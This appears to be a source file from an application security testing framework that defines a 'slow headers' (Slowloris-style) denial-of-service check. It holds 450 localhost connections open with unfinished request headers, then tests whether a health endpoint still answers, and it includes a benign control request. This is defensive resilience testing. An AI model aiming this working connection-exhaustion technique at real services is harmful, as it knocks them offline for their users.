import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

const connections = 450

/** Keeps every connection of the application busy with request heads that never end. */
export const slowHeaders: Attack = defineAttack({
  id: 'slow-headers',
  class: 'slow-client',
  title: 'Keeps every connection busy with request heads that never end',
  cwe: 400,
  capec: 469,
  technique: 'T1499.002',
  preconditions: [],
  slow: true,
  steps: async ({ visitor, bystander, pause }) => {
    const open = Array.from({ length: connections }, () => visitor.raw())
    for (const connection of open) connection.write('GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ')
    // At least three seconds, and on a busy machine until the first connection too many was turned away.
    for (let turn = 0; turn < 8 || (turn < 30 && open.every((connection) => connection.isOpen())); turn++) {
      await pause(400)
      for (const connection of open) connection.write('a')
    }
    const answer = await bystander().get('/health')
    for (const connection of open) connection.close()
    return answer
  },
  oracle: (answer) => answer.status === 0 || answer.ms > 5000,
  twin: async ({ visitor, pause }) => {
    const slow = visitor.raw()
    slow.write('GET /health HTTP/1.1\r\nHost: localhost\r\n')
    await pause(300)
    slow.write('\r\n')
    await pause(300)
    slow.close()
    return visitor.get('/health')
  },
})
